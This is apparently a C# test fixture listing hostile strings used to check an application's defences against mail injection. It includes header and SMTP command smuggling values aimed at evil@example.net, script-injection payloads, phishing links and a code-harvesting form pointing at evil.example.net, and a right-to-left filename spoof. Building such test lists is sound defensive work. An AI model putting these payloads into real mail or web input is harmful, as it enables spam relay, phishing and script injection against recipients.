namespace Banyan.Security.Tests.MailInjection;

/// <summary>What somebody calls themselves, or their application, to get at the header, the envelope or the look of a mail.</summary>
internal static class HostileWords
{
    public const string Attacker = "evil@example.net";

    public static IReadOnlyList<string> All { get; } =
    [
        $"Eve\r\nBcc: {Attacker}",
        $"Eve\nTo: {Attacker}",
        $"Eve\rCc: {Attacker}",
        $"Eve\r\n\r\n<script>alert(1)</script>",
        $"Eve\u2028Bcc: {Attacker}",
        $"Eve\u2029Bcc: {Attacker}",
        $"Eve\u0085Bcc: {Attacker}",
        $"Eve\u000B\u000CBcc: {Attacker}",
        $"Eve\0Bcc: {Attacker}",
        $"Eve\r\n\tReply-To: {Attacker}",
        $"Eve\r\n.\r\nMAIL FROM:<{Attacker}>\r\nRCPT TO:<{Attacker}>\r\nDATA\r\n",
        $"Eve\n.\nRSET\nMAIL FROM:<{Attacker}>",
        "=?utf-8?B?DQpCY2M6IGV2aWxAZXhhbXBsZS5uZXQ=?=",
        "=?utf-8?Q?Eve=0D=0ABcc:_evil=40example.net?=",
        $"\"Eve\" <{Attacker}>",
        $"Eve>, <{Attacker}",
        $"Eve\" <{Attacker}>, \"x",
        $"Eve, {Attacker}",
        "<a href=\"https://evil.example.net/\">Your account is locked</a>",
        "<img src=\"https://evil.example.net/pixel.gif\" onerror=alert(1)>",
        "[Your account is locked](https://evil.example.net/)",
        "</title></head><body><form action=\"https://evil.example.net/\"><input name=code>",
        "<a style=\"background:#1f6b45\" href=\"https://evil.example.net/\">Open</a>",
        "\" style=\"position:fixed\" href=\"https://evil.example.net/",
        "--boundary\r\nContent-Type: text/html\r\n\r\n<a href=\"https://evil.example.net/\">x</a>",
        "{0} {1} {2:N0} {Name}",
        "\u202Egpj.exe \u2066nusrat\u2069",
        "javascript:alert(1)",
        "Eve " + new string('\u0986', 40),
    ];
}
